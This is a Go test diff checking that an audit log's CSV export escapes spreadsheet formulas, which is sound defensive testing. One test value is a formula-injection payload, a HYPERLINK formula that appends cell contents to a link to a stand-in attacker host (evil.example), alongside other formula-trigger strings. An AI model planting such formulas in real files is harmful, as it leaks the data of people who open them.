@@ -255,3 +255,28 @@ func TestAuditExportParses(t *testing.T) {
 		require.ErrorIs(t, err, errUsage)
 	})
 }
+
+// A cell a spreadsheet would run as a formula is exported as text: any
+// member can type one as an action's ID, and the refusal is recorded.
+func TestAuditExportCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	url, _ := auditDB(t, "sqlite")
+	st, err := store.Open(t.Context(), url, store.WithAuditKey(mustAuditKey(t)))
+	require.NoError(t, err)
+	planted := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
+	_, err = st.AppendAudit(t.Context(), audit.Entry{Actor: "U0MALLORY", Surface: audit.Command, Kind: audit.ActionStatus,
+		Target: planted, From: "-1+1", To: "@SUM(1)", Outcome: audit.Refused(audit.ReasonGone), Time: time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)})
+	require.NoError(t, err)
+	require.NoError(t, st.Close())
+
+	out, err := runAuditCmd(t, url, "export", "--format", "csv")
+	require.NoError(t, err)
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	last := rows[len(rows)-1]
+	assert.Equal(t, []string{"'" + planted, "'-1+1", "'@SUM(1)"}, []string{last[6], last[7], last[8]})
+
+	out, err = runAuditCmd(t, url, "export", "--format", "jsonl")
+	require.NoError(t, err)
+	assert.Contains(t, out, `"target":"=HYPERLINK(`, "JSON is data, not a spreadsheet: kept as written")
+}
